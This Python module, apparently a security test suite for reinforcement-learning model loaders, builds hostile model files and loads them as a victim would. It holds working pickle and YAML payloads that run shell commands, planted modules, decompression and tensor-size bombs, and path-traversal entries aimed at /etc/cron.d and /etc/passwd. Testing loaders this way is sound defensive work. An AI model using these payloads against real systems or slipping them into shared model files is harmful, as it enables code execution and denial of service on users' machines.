"""
Hostile files: some run a command in the usual loaders, each in its own way; others exhaust a loader that believes them.

As a script with a list of files, this module is the victim: it loads each file as SB3, torch, RL Zoo or gymnasium would.
"""

import io
import json
import marshal
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import cloudpickle
import gymnasium as gym
import numpy as np
import torch as th
from gymnasium import spaces
from stable_baselines3.common.vec_env import DummyVecEnv, VecNormalize
from teacher_files import ATTACKS, Payload, edit_zip, serialized


def _call(module: str, name: str, *arguments: Any) -> bytes:
    """A pickle that asks for ``module.name(*arguments)``, whatever these are here."""
    packed = pickle.dumps(arguments, protocol=2)[2:-1]
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + packed + b"R."


def _python(command: str) -> str:
    return f"__import__('os').system({command!r})"


def _by_value(command: str) -> bytes:
    """A function that is pickled as code, and called when it is loaded."""

    class Called:
        def __reduce__(self) -> tuple[Any, ...]:
            def run(text: str) -> None:
                import os

                os.system(text)

            return run, (command,)

    Called.__module__ = "__main__"  # cloudpickle then takes its code along
    return cloudpickle.dumps(Called())


def _marshalled(command: str) -> bytes:
    code = marshal.dumps(compile(f"import os; os.system({command!r})", "", "exec"))
    inner = _call("marshal", "loads", code)[2:-1]
    return b"\x80\x02ctypes\nFunctionType\n(" + inner + b"}tR)R."


def _by_memo(command: str) -> bytes:
    """The names are put together from the memo, so that no text search finds them side by side."""
    words = b"".join(b"\x8c" + bytes([len(word)]) + word.encode() + b"\x940" for word in ("system", "os"))
    return b"\x80\x04" + words + b"h\x01h\x00\x93(S" + repr(command).encode() + b"\ntR."


def _by_map(command: str) -> bytes:
    mapped = b"cbuiltins\nmap\n(cos\nsystem\n(lS" + repr(command).encode() + b"\natR"
    return b"cbuiltins\nlist\n(" + mapped + b"tR."


def _newobj_ex(command: str) -> bytes:
    arguments = pickle.dumps({"args": command, "shell": True}, protocol=2)[2:-1]
    return b"\x80\x04cfunctools\npartial\n(csubprocess\ncall\nt" + arguments + b"\x92)R."


# name -> a pickle that runs the command in an ordinary unpickler
PICKLES: dict[str, Callable[[str], bytes]] = {
    **ATTACKS,
    "exec": lambda command: _call("builtins", "exec", _python(command)),
    "subprocess": lambda command: _call("subprocess", "getoutput", command),
    "a pickle in a pickle": lambda command: _call("pickle", "loads", pickle.dumps(Payload(command))),
    "code by value": _by_value,
    "code by marshal": _marshalled,
    "names from the memo": _by_memo,
    "map": _by_map,
    "keyword arguments": _newobj_ex,
    "a helper of numpy": lambda command: _call("numpy.testing", "runstring", _python(command), {}),
    "a helper of torch": lambda command: _call("torch.utils.collect_env", "run", command),
    "a helper of runpy": lambda command: _call("runpy", "_run_code", _python(command), {}),
    "a profiler": lambda command: _call("cProfile", "run", _python(command)),
}


def _with_data(key: str, pickled: Callable[[str], bytes]) -> "Writer":
    def write(folder: Path, command: str, base: Path) -> Path:
        return edit_zip(base, folder / "model.zip", {key: serialized(pickled(command))})

    return write


def _with_member(name: str, content: Callable[[str], bytes]) -> "Writer":
    def write(folder: Path, command: str, base: Path) -> Path:
        return edit_zip(base, folder / "model.zip", members={name: content(command)})

    return write


def _file(name: str, content: Callable[[str], bytes]) -> "Writer":
    def write(folder: Path, command: str, base: Path) -> Path:
        (folder / name).write_bytes(content(command))
        return folder / name

    return write


def _run_folder(args: str = "env: CartPole-v1", config: str = "normalize: false") -> "Writer":
    """A run folder of RL Zoo; beside it the module ``evil``, as an installed package would be."""

    def write(folder: Path, command: str, base: Path) -> Path:
        run = folder / "CartPole-v1_1"
        (run / "CartPole-v1").mkdir(parents=True)
        (run / "CartPole-v1.zip").write_bytes(base.read_bytes())
        (folder / "evil.py").write_text(f"import os; os.system({command!r})")
        for name, text in (("args.yml", args), ("config.yml", config)):
            (run / "CartPole-v1" / name).write_text(text.replace("COMMAND", command))
        return run

    return write


def torch_archive(pickled: bytes, **members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in {"data.pkl": pickled, "version": b"3\n", "data/0": bytes(16), **members}.items():
            archive.writestr(f"archive/{name}", content)
    return buffer.getvalue()


_MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19." + b"\x80\x02M\xe9\x03."  # magic number and version


def _legacy(command: str) -> bytes:
    return _MAGIC + b"\x80\x02}." + pickle.dumps(Payload(command), protocol=2)


def _legacy_header(command: str) -> bytes:
    return _MAGIC + pickle.dumps({"little_endian": Payload(command)}, protocol=2)


def _legacy_tar(command: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.PAX_FORMAT) as archive:
        for name in ("storages", "tensors", "pickle"):
            content = pickle.dumps(Payload(command), protocol=2)
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def _hidden_in_weights(command: str) -> bytes:
    """A whole state dict, under which something else was called."""
    buffer = io.BytesIO()
    th.save({"log_std": th.zeros(4)}, buffer)
    with zipfile.ZipFile(buffer) as archive:
        honest = archive.read("archive/data.pkl")
    return torch_archive(b"\x80\x02" + pickle.dumps(Payload(command), protocol=2)[2:-1] + b"0" + honest[2:])


def policy_with(key: str, command: str, is_recurrent: bool = False) -> bytes:
    """A file of ``policy.save()`` in which one value runs a command."""
    buffer = io.BytesIO()
    data: dict[str, Any] = {"observation_space": spaces.Discrete(2), "action_space": spaces.Discrete(2)}
    names = ["action_net.weight", *(["value_net.weight", "lstm_actor.weight_hh_l0"] if is_recurrent else [])]
    saved: dict[str, Any] = {"data": data, "state_dict": {name: th.zeros(4, 1) for name in names}}
    (saved if key in saved else data)[key] = Payload(command)
    th.save(saved, buffer)
    return buffer.getvalue()


Writer = Callable[[Path, str, Path], Path]


class Attack(NamedTuple):
    """
    :param victim: key of ``VICTIMS``
    :param write: writes the file or folder that runs a command
    """

    victim: str
    write: Writer


def _reduce(command: str) -> bytes:
    return pickle.dumps(Payload(command))


RUNNING: dict[str, Attack] = {
    **{f"zip, {name}": Attack("sb3", _with_data("policy_kwargs", build)) for name, build in PICKLES.items()},
    **{f"statistics, {name}": Attack("pickle", _file("vecnormalize.pkl", build)) for name, build in PICKLES.items()},
    **{
        f"policy, {name}": Attack("policy", _file("policy.pth", lambda command, build=build: torch_archive(build(command))))
        for name, build in PICKLES.items()
    },
    **{
        f"policy, in {key}": Attack("policy", _file("policy.pth", lambda command, key=key: policy_with(key, command)))
        for key in ("data", "state_dict", "lr_schedule", "observation_space", "optimizer_class")
    },
    **{
        f"recurrent policy, in {key}": Attack(
            "policy", _file("policy.pth", lambda command, key=key: policy_with(key, command, is_recurrent=True))
        )
        for key in ("lstm_kwargs", "lstm_hidden_size", "features_extractor_class")
    },
    **{
        f"zip, in {key}": Attack("sb3", _with_data(key, _reduce))
        for key in ("observation_space", "action_space", "policy_class", "lr_schedule", "ep_info_buffer", "unknown")
    },
    "weights": Attack("torch", _with_member("policy.pth", lambda command: torch_archive(_reduce(command)))),
    "weights, hidden": Attack("torch", _with_member("policy.pth", _hidden_in_weights)),
    "weights before torch 1.6": Attack("torch", _with_member("policy.pth", _legacy)),
    "weights before torch 1.6, header": Attack("torch", _with_member("policy.pth", _legacy_header)),
    "weights before torch 0.1.10, a tar": Attack("torch", _with_member("policy.pth", _legacy_tar)),
    "weights as a bare pickle": Attack("pickle member", _with_member("policy.pth", _reduce)),
    "YAML, apply": Attack("yaml", _file("args.yml", lambda c: f"a: !!python/object/apply:os.system ['{c}']".encode())),
    "YAML, new": Attack("yaml", _file("args.yml", lambda c: f"a: !!python/object/new:os.system ['{c}']".encode())),
    "YAML, in an OrderedDict": Attack(
        "yaml",
        _file(
            "config.yml",
            lambda c: (
                f"!!python/object/apply:collections.OrderedDict\n- - - a\n    - !!python/object/apply:os.system ['{c}']"
            ).encode(),
        ),
    ),
    "YAML, keyword arguments": Attack(
        "yaml",
        _file(
            "args.yml",
            lambda c: f"!!python/object/apply:subprocess.call {{args: ['{c}'], kwds: {{shell: true}}}}".encode(),
        ),
    ),
    "YAML, a key": Attack("yaml", _file("args.yml", lambda c: f"? !!python/object/apply:os.system ['{c}']\n: 1".encode())),
    "normalize, evaluated": Attack("zoo", _run_folder(config="normalize: \"__import__('os').system('COMMAND')\"")),
    "a module of an environment": Attack("gymnasium", _run_folder(args='env: "evil:Evil-v0"')),
    "a module of a wrapper": Attack("wrapper", _run_folder(config="{env_wrapper: evil.Wrapper, normalize: false}")),
}


# --- victims ---
def _load_sb3(path: Path) -> None:
    from stable_baselines3 import PPO

    PPO.load(path)


def _member(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read("policy.pth")


def _load_torch(path: Path) -> None:
    weights = path.with_name("policy.pth")
    weights.write_bytes(_member(path))
    th.load(weights, weights_only=False)


def _load_policy(path: Path) -> None:
    from stable_baselines3.common.policies import ActorCriticPolicy

    ActorCriticPolicy.load(path)


def _load_yaml(path: Path) -> None:
    import yaml

    yaml.load(path.read_text(), Loader=yaml.UnsafeLoader)


def _load_zoo(run: Path) -> None:
    from rl_zoo3.utils import get_saved_hyperparams

    get_saved_hyperparams(str(run / "CartPole-v1"))


def _load_gymnasium(run: Path) -> None:
    import gymnasium
    import yaml

    sys.path.insert(0, str(run.parent))
    gymnasium.make(yaml.safe_load((run / "CartPole-v1" / "args.yml").read_text())["env"])


def _load_wrapper(run: Path) -> None:
    import yaml
    from rl_zoo3.utils import get_wrapper_class

    sys.modules.pop("evil", None)
    sys.path.insert(0, str(run.parent))
    get_wrapper_class(yaml.safe_load((run / "CartPole-v1" / "config.yml").read_text()))


VICTIMS: dict[str, Callable[[Path], Any]] = {
    "sb3": _load_sb3,
    "torch": _load_torch,
    "policy": _load_policy,
    "pickle": lambda path: pickle.loads(path.read_bytes()),
    "pickle member": lambda path: pickle.loads(_member(path)),
    "yaml": _load_yaml,
    "zoo": _load_zoo,
    "gymnasium": _load_gymnasium,
    "wrapper": _load_wrapper,
}


# --- files that exhaust, or that two readers see differently ---
def _raw_zip(*entries: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> Callable[[bytes], bytes]:
    """The members of a model, and then these, whatever their names are."""

    def build(base: bytes) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(buffer, "w") as target:
            for name in source.namelist():
                target.writestr(name, source.read(name))
            for name, content in entries:
                info = zipfile.ZipInfo("x" * len(name))
                info.compress_type = method
                target.writestr(info, content)
        raw = buffer.getvalue()
        for name, _ in entries:
            raw = raw.replace(b"x" * len(name), name.encode())
        return raw

    return build


def _data(**values: Any) -> Callable[[bytes], bytes]:
    def build(base: bytes) -> bytes:
        return replaced(base, data=json.dumps({**json.loads(_members(base)["data"]), **values}).encode())

    return build


def _boxes(n_keys: int, size: int) -> Callable[[bytes], bytes]:
    """A Dict of boxes whose bounds are all the same array: kilobytes, packed."""
    box, space = spaces.Box(0, 255, (4,), np.uint8), spaces.Dict({"a": spaces.Discrete(2)})
    box.low = box.high = np.zeros(size, np.uint8)
    box._shape = (size,)
    space.spaces = {f"key{number}": box for number in range(n_keys)}

    def build(base: bytes) -> bytes:
        return replaced(_data(observation_space=serialized(pickle.dumps(space)))(base), method=zipfile.ZIP_DEFLATED)

    return build


def statistics_of(n_keys: int, size: int) -> bytes:
    """A vecnormalize.pkl, the moments of every key the same array."""
    normalize = VecNormalize(DummyVecEnv([lambda: gym.make("CartPole-v1")]))
    rms: Any = normalize.obs_rms
    rms.mean = rms.var = np.zeros(size, np.uint8)
    normalize.obs_rms = {f"key{number}": rms for number in range(n_keys)}
    return pickle.dumps(normalize)


def _weights(content: bytes) -> Callable[[bytes], bytes]:
    return lambda base: replaced(base, **{"policy.pth": content})


def _members(base: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def replaced(base: bytes, method: int = zipfile.ZIP_STORED, **members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method, compresslevel=1) as archive:
        for name, content in {**_members(base), **members}.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _lying(base: bytes) -> bytes:
    """A member of 1.2 GB that says it has 1,000 bytes."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(1_200)) + packer.flush()
    raw = replaced(base, method=zipfile.ZIP_DEFLATED, data=b"#" * 1_000)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        info = archive.getinfo("data")
    start = info.header_offset + 30 + len("data")
    honest = raw[start : start + info.compress_size]
    # in its header and in the directory; offsets of the others do not matter, data is read first
    size = struct.pack("<I", info.compress_size), struct.pack("<I", len(packed))
    at = raw.rindex(honest)
    patched = raw[:at].replace(*size) + packed + raw[at + len(honest) :].replace(*size)
    moved = len(packed) - info.compress_size
    return _move_directory(patched, moved, info.header_offset)


def _move_directory(raw: bytes, moved: int, after: int) -> bytes:
    content, at = bytearray(raw), raw.index(b"PK\x01\x02", len(raw) - 4_000)
    while content[at : at + 4] == b"PK\x01\x02":
        (offset,) = struct.unpack_from("<I", content, at + 42)
        struct.pack_into("<I", content, at + 42, offset + moved if offset > after else offset)
        lengths = struct.unpack_from("<HHH", content, at + 28)
        at += 46 + sum(lengths)
    (start,) = struct.unpack_from("<I", content, at + 16)
    struct.pack_into("<I", content, at + 16, start + moved)
    return bytes(content)


def _encrypted(base: bytes) -> bytes:
    content = bytearray(base)
    content[6] |= 1
    at = base.rindex(b"PK\x01\x02", 0, base.rindex(b"data"))
    content[at + 8] |= 1
    return bytes(content)


def _tensor(size: int = 4, shape: str = "K\x04", kind: str = "FloatStorage", after: bytes = b"") -> bytes:
    storage = b"((X\x07\x00\x00\x00storagectorch\n" + kind.encode() + b"\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
    storage += b"\x8a\x08" + struct.pack("<q", size) + b"tQ"
    made = b"ctorch._utils\n_rebuild_tensor_v2\n" + storage + b"K\x00" + shape.encode("latin1") + b"\x85K\x01\x85\x89"
    return b"\x80\x02}X\x07\x00\x00\x00log_std" + made + b"ccollections\nOrderedDict\n)RtRs" + after + b"."


def _doubled(n: int) -> bytes:
    return b"K\x01" + b"q\x00h\x00\x86" * n


_PICKLED_BOMBS: dict[str, bytes] = {
    "doubled 90 times": b"\x80\x02" + _doubled(90) + b".",
    "doubled in a dict's key": b"\x80\x02}" + _doubled(60) + b"K\x01s.",
    "nested 100,000 deep": b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".",
    "600,000 marks": b"\x80\x02" + b"(" * 600_000 + b".",
    "a string of 2^62 bytes": b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"x.",
    "bytes of 2^62": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"x.",
    "a number of 100,000 digits": b"L" + b"9" * 100_000 + b"L\n.",
    "a list that holds itself": b"\x80\x02]q\x00h\x00a.",
    "an array of 10^18 numbers": pickle.dumps(None)[:-2]
    + b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85U\x01btR(K\x01\x8a\x08"
    + struct.pack("<q", 10**18)
    + b"\x85cnumpy\ndtype\nU\x02f8K\x00K\x01\x87R\x89U\x04abcdtb.",
    "a memo of 2^31 places": b"\x80\x02K\x01r\xff\xff\xff\x7f.",
}
WEIGHT_BOMBS: dict[str, bytes] = {
    "that calls UntypedStorage(2^40)": torch_archive(b"\x80\x02ctorch.storage\nUntypedStorage\n\x8a\x06\0\0\0\0\0\1\x85R."),
    "that calls FloatTensor(2^40)": torch_archive(b"\x80\x02ctorch\nFloatTensor\n\x8a\x06\0\0\0\0\0\1\x85R."),
    "that calls bytearray(2^40)": torch_archive(b"\x80\x02cbuiltins\nbytearray\n\x8a\x06\0\0\0\0\0\1\x85R."),
    "whose OrderedDict hashes for ever": torch_archive(
        b"\x80\x02ccollections\nOrderedDict\n]" + _doubled(40) + b"K\x01\x86a\x85R."
    ),
    "whose storage is larger than the file": torch_archive(_tensor(size=2**40)),
    "whose storage has fewer bytes than it says": torch_archive(_tensor(size=2**20)),
    "of negative size": torch_archive(_tensor(size=-4)),
    "that see beyond their storage": torch_archive(_tensor(shape="K\x05")),
    "of a storage that runs on a GPU's name": torch_archive(_tensor(kind="UntypedStorage")),
    "with a second archive's end": torch_archive(_tensor()) + torch_archive(b"\x80\x02N."),
    "with constants of TorchScript": torch_archive(_tensor(), **{"constants.pkl": b"\x80\x02)."}),
    "with a member outside": torch_archive(_tensor(), **{"../../evil": b""}),
    "in the old format, a storage of 2^40": _MAGIC
    + b"\x80\x02}."
    + _tensor(size=2**40).replace(b"tQ", b"NtQ")
    + b"\x80\x02]X\x01\x00\x00\x000a.",
    "in the old format, cut off": _MAGIC + b"\x80\x02}." + _tensor().replace(b"tQ", b"NtQ"),
    "of 65 axes": torch_archive(
        b"\x80\x02}X\x07\x00\x00\x00log_std"
        b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQK\x00("
        + b"K\x01" * 64
        + b"K\x04t("
        + b"K\x01" * 65
        + b"t\x89ccollections\nOrderedDict\n)RtRs."
    ),
    "nested": torch_archive(b"\x80\x02" + b"(" * 1_000 + b"t" * 1_000 + b"."),
}

# name -> from an honest zip a file that has to be refused, within bounds of time and memory
REFUSED: dict[str, Callable[[bytes], bytes]] = {
    "a name upwards": _raw_zip(("../../evil.py", b"1")),
    "an absolute name": _raw_zip(("/etc/cron.d/evil", b"1")),
    "a name of Windows": _raw_zip(("C:\\evil.exe", b"1")),
    "a name with a NUL": _raw_zip(("data\0.txt", b"1")),
    "two members of one name": _raw_zip(("data", b"{}")),
    "another method": lambda base: replaced(base, method=zipfile.ZIP_LZMA),
    "3,000 members": _raw_zip(*((f"m{i:04}", b"") for i in range(3_000))),
    "a member that lies about its size": _lying,
    "an encrypted member": _encrypted,
    "JSON of 64 MiB of zeros": lambda base: replaced(base, method=zipfile.ZIP_DEFLATED, data=bytes(2**26)),
    "weights of 600 MiB of zeros": lambda base: replaced(
        base, method=zipfile.ZIP_DEFLATED, **{"policy.pth": bytes(600 * 2**20)}
    ),
    "JSON of ten million lists": lambda base: replaced(
        base, method=zipfile.ZIP_DEFLATED, data=b"[" + b"[[]]," * 5_000_000 + b"1]"
    ),
    "100 boxes of the same 20 MB": _boxes(100, 20_000_000),
    "100 boxes of the same MiB": _boxes(100, 2**20),
    "3,000 boxes of one number": _boxes(3_000, 1),
    "deep JSON": lambda base: replaced(base, data=b'{"a": ' * 900 + b"1" + b"}" * 900),
    "a number of JSON with 10,000 digits": lambda base: replaced(base, data=b'{"n": ' + b"9" * 10_000 + b"}"),
    "a network of 10^12 weights": _data(policy_kwargs={"net_arch": [10**6, 10**6]}),
    "a network of a million layers": _data(policy_kwargs={"net_arch": [1] * 10**6}),
    "an extractor of 2^62 features": _data(policy_kwargs={"features_extractor_kwargs": {"features_dim": 2**62}}),
    "a deviation of 10^4000": _data(policy_kwargs={"use_sde": True, "log_std_init": 10**4_000}),
    **{f"a pickle {name}": _data(observation_space=serialized(bomb)) for name, bomb in _PICKLED_BOMBS.items()},
    **{f"weights {name}": _weights(bomb) for name, bomb in WEIGHT_BOMBS.items()},
}

YAML_BOMBS: dict[str, str] = {
    "a billion laughs": "a: &a [1,1,1,1,1,1,1,1,1,1]\n"
    + "".join(f"{b}: &{b} [{', '.join(['*' + a] * 10)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)),
    "a list that holds itself": "a: &a [*a]",
    "merged for ever": "a: &a {x: 1}\nb: {<<: [*a, *a]}",
    "nested 5,000 deep": "a: " + "[" * 5_000,
    "a size of 60,000 digits": "a: {size: 0x" + "f" * 50_000 + "}",
    "a number of base 60": "a: " + ":".join(["1"] * 20_000),
    "too large": "# " + "x" * 2**20,
    "a key that is a list": "? [a, b]\n: c",
    "a tag of Python": "a: !!python/module:os",
    "a fraction of base 60": "a: " + "1:" * 200 + "1.",
    "a billion frames": "frame_stack: 1000000000",
    "endless frames": "frame_stack: .inf",
    "a wrapper that writes": "a: [{stable_baselines3.common.monitor.Monitor: {filename: mark}}]",
}

_HISTORY = "rl_zoo3.wrappers.HistoryWrapper"
# name -> what a config.yml says of the environment, and how the refusal names it
SETTINGS: dict[str, tuple[str, str]] = {
    "a size of 10^9": ("env_kwargs: {size: 1000000000}", "'size': 1000000000"),
    "a size of 10^9, not whole": ("env_kwargs: {size: 1.0e+9}", "'size': 1000000000.0"),
    "a size below zero": ("env_kwargs: {size: -1000000000}", "'size': -1000000000"),
    "a size that is no number": ("env_kwargs: {size: .nan}", "'size': nan"),
    "a limit of 10^9 steps": ("env_kwargs: {max_episode_steps: 1000000000}", "'max_episode_steps': 1000000000"),
    "no limit of steps": ("env_kwargs: {max_episode_steps: -1}", "'max_episode_steps': -1"),
    "a file of settings": ("env_kwargs: {xml_file: /etc/passwd}", "'xml_file': '/etc/passwd'"),
    "a device that never ends": ("env_kwargs: {model: /dev/zero}", "'model': '/dev/zero'"),
    "a path upwards": ("env_kwargs: {xml_file: ../../secret}", "'xml_file': '../../secret'"),
    "a path at home": ("env_kwargs: {map: ~/secret}", "'map': '~/secret'"),
    "a path of Windows": ("env_kwargs: {map: 'C:\\secret'}", "'map': 'C:"),
    "a path in a list": ("env_kwargs: {maps: [easy, /etc/passwd]}", "'maps': ['easy', '/etc/passwd']"),
    "a file beside": ("env_kwargs: {map_file: secret}", "'map_file': 'secret'"),
    "a folder to write": ("env_kwargs: {logdir: secret}", "'logdir': 'secret'"),
    "an address": ("env_kwargs: {model: 'http://127.0.0.1/evil'}", "'model': 'http://127.0.0.1/evil'"),
    "a module of another environment": ("env_kwargs: {env_id: 'evil:Evil-v0'}", "'env_id': 'evil:Evil-v0'"),
    "a window": ("env_kwargs: {render_mode: human}", "'render_mode': 'human'"),
    "settings in settings": ("env_kwargs: {config: {size: 1000000000}}", "'config': {'size': 1000000000}"),
    "a list in a list": ("env_kwargs: {sizes: [[1000000000]]}", "'sizes': [[1000000000]]"),
    "a long list": (f"env_kwargs: {{desc: [{'S, ' * 20_000}S]}}", "'desc': ['S', 'S'"),
    "a long text": (f"env_kwargs: {{desc: {'S' * 50_000}}}", "'desc': 'SSSS"),
    "a keyword that is a number": ("env_kwargs: {1: 1}", "1: 1"),
    "5,000 keywords": (f"env_kwargs: {{{', '.join(f'k{i}: 1' for i in range(5_000))}}}", "with 64 settings each"),
    "a history of 10^9": (f"env_wrapper: {{{_HISTORY}: {{horizon: 1000000000}}}}", "'horizon': 1000000000"),
    "histories of histories": (
        f"env_wrapper: [{', '.join([f'{{{_HISTORY}: {{horizon: 900}}}}'] * 3)}]",
        "multiply to 729000000",
    ),
    "stacks of stacks": (
        "frame_stack: 64\nenv_wrapper: {gymnasium.wrappers.FrameStackObservation: {stack_size: 64}}",
        "multiply to 4096",
    ),
    "10^9 steps at once": ("env_wrapper: {gymnasium.wrappers.RepeatAction: {num_repeats: 1000000000}}", "'num_repeats'"),
    "a picture of 10^10 pixels": (
        "env_wrapper: {gymnasium.wrappers.ResizeObservation: {shape: !!python/tuple [100000, 100000]}}",
        "'shape': (100000, 100000)",
    ),
    "a screen of 10^10 pixels": (
        "env_wrapper: {stable_baselines3.common.atari_wrappers.AtariWrapper: {screen_size: 100000}}",
        "'screen_size': 100000",
    ),
    "a thousand large pictures": (
        "env_wrapper: [gymnasium.wrappers.ResizeObservation: {shape: !!python/tuple [1000, 1000]}, "
        "gymnasium.wrappers.FrameStackObservation: {stack_size: 1000}]",
        "1000 frames of 1000000 pixels",
    ),
    "delays of delays": (
        f"env_wrapper: [{', '.join(['{gymnasium.wrappers.DelayObservation: {delay: 900}}'] * 2)}]",
        "multiply to 810000",
    ),
    "1,000 wrappers": (f"env_wrapper: [{', '.join(['gymnasium.wrappers.ClipAction'] * 1_000)}]", "63 wrappers"),
}


def main() -> None:
    for line in sys.stdin.read().splitlines():
        victim, path = json.loads(line)
        try:
            VICTIMS[victim](Path(path))
        except BaseException:  # whatever a victim dies of, the next one is loaded
            continue


if __name__ == "__main__":
    main()
